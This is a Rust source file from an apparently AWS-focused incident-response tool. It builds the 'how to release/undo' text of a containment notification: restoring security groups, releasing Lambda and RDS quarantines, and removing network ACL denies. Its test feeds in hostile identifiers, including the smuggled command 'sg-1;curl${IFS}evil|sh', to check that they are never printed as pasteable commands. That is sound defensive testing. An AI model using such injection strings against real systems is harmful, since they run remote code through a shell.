//! How the notification says to put things back: HOW TO UNDO (credentials), HOW TO RELEASE (a
//! quarantined instance or a stopped function), HOW TO DECIDE (an `ask`).

use std::fmt::Write;

use crate::incident::asff::CustomAction;
use crate::kind::ActionKind;
use crate::outcome::Status;
use crate::report::verdict::Verdict;
use crate::report::Report;
use crate::shell::{self, Command};
use crate::tags;

impl Report {
    /// How a Lambda function's containment is released.
    fn write_function_release(&self, b: &mut String) {
        let _ = writeln!(
            b,
            "  Choose {} on the finding in Security Hub: it gives back the reserved and \
             provisioned\n  concurrency, the event source mappings and the VPC groups exactly as \
             recorded on the function\n  ({}, {}, {}, {}) and removes the deny policy from its \
             execution role.",
            CustomAction::FbRelease.id(),
            tags::CONCURRENCY,
            tags::PROVISIONED,
            tags::EVENT_SOURCES,
            tags::VPC_GROUPS
        );
    }

    /// HOW TO UNDO (credentials) or HOW TO RELEASE (a quarantine); HOW TO DECIDE (an `ask`).
    pub(super) fn write_undo(&self, b: &mut String) {
        if !self.approval.is_empty() {
            let _ = writeln!(b, "\nHOW TO DECIDE (approve or reject)");
            for line in &self.approval {
                let _ = writeln!(b, "  {line}");
            }
        }
        if !self.undo.is_empty() {
            let _ = writeln!(b, "\nHOW TO UNDO (after the investigation)");
            for u in &self.undo {
                let _ = writeln!(b, "  {u}");
            }
        }
        if !self.undo.is_empty()
            || !matches!(
                self.verdict,
                Verdict::Contained | Verdict::ContainmentFailed
            )
        {
            return;
        }
        let _ = writeln!(b, "\nHOW TO RELEASE (after the investigation)");
        if self.plan.has(ActionKind::StopFunction) {
            return self.write_function_release(b);
        }
        if self.plan.has(ActionKind::IsolateDatabase) {
            return write_database_release(b);
        }
        let _ = writeln!(
            b,
            "  Restore each interface's groups (recorded on the instance in {}):",
            tags::ISOLATION
        );
        for (eni, groups) in &self.original_groups {
            let restore = Command::new("aws ec2 modify-network-interface-attribute")
                .arg("--region", shell::REGION, &self.region)
                .arg("--network-interface-id", shell::NETWORK_INTERFACE, eni)
                .args("--groups", shell::SECURITY_GROUP, groups);
            let _ = writeln!(b, "    {}", restore.or_note(|c| c));
        }
        let _ = writeln!(
            b,
            "  then remove the instance's firebreak:* tags, and turn termination protection off only if\n  \
             {} says termination-protection. Evidence snapshots are kept.",
            tags::EVIDENCE
        );
        let acl_denied = self.outcomes.iter().any(|o| {
            o.action == ActionKind::DenyNetworkAcl
                && matches!(
                    o.status,
                    Status::Succeeded | Status::AlreadyDone | Status::Skipped
                )
        });
        if acl_denied {
            let _ = writeln!(
                b,
                "  Its addresses are denied in the network ACLs of its VPC (the {} lines above;\n  \
                 recorded in {}): delete those entries too, or let FbRelease do it.",
                ActionKind::DenyNetworkAcl,
                tags::ACL_DENIES
            );
        }
        let out_of_service = self
            .outcomes
            .iter()
            .any(|o| o.action == ActionKind::TakeOutOfService && o.status == Status::Succeeded);
        if out_of_service {
            let _ = writeln!(
                b,
                "  It was also taken out of service (the {} lines above; recorded as\n  \
                 {} and {}).\n  \
                 The Security Hub custom action FbRelease puts all of it back (ExitStandby or\n  \
                 AttachInstances, RegisterTargets, AssociateAddress) along with the groups.",
                ActionKind::TakeOutOfService,
                tags::AUTO_SCALING,
                tags::OUT_OF_SERVICE
            );
        }
    }
}

/// HOW TO RELEASE an RDS database: `FbRelease`, which gives its recorded groups back.
fn write_database_release(b: &mut String) {
    let _ = writeln!(
        b,
        "  Choose {} on the finding in Security Hub: it gives back the database's VPC security \
         groups\n  exactly as recorded ({}). The snapshot is kept.",
        CustomAction::FbRelease.id(),
        tags::VPC_GROUPS
    );
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use crate::report::tests::contained;

    #[test]
    fn the_release_commands_print_only_valid_recorded_ids() {
        use crate::shell::testing::{assert_pasteable, HOSTILE};
        let (_, report) = contained("t");
        let release = |region: &str, eni: &str, group: &str| {
            let mut r = report.clone();
            r.region = region.into();
            r.original_groups = BTreeMap::from([(
                eni.to_string(),
                vec!["sg-0123456789abcdef0".to_string(), group.to_string()],
            )]);
            let mut b = String::new();
            r.write_undo(&mut b);
            b
        };
        let (eni, group) = ("eni-0123456789abcdef0", "sg-12345678");
        let ordinary = release("eu-west-1", eni, group);
        assert!(ordinary.contains(
            "\n    aws ec2 modify-network-interface-attribute --region eu-west-1 \
             --network-interface-id eni-0123456789abcdef0 --groups sg-0123456789abcdef0 sg-12345678\n"
        ));
        for hostile in HOSTILE {
            for text in [
                release(hostile, eni, group),
                release("eu-west-1", hostile, group),
                release("eu-west-1", eni, hostile),
            ] {
                assert!(text.contains("\n    (not printed: "), "{text}");
                assert_pasteable(&text, &ordinary);
            }
        }
        let no = release("eu-west-1", eni, "sg-1;curl${IFS}evil|sh");
        assert!(no.contains(
            r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
        ));
    }
}
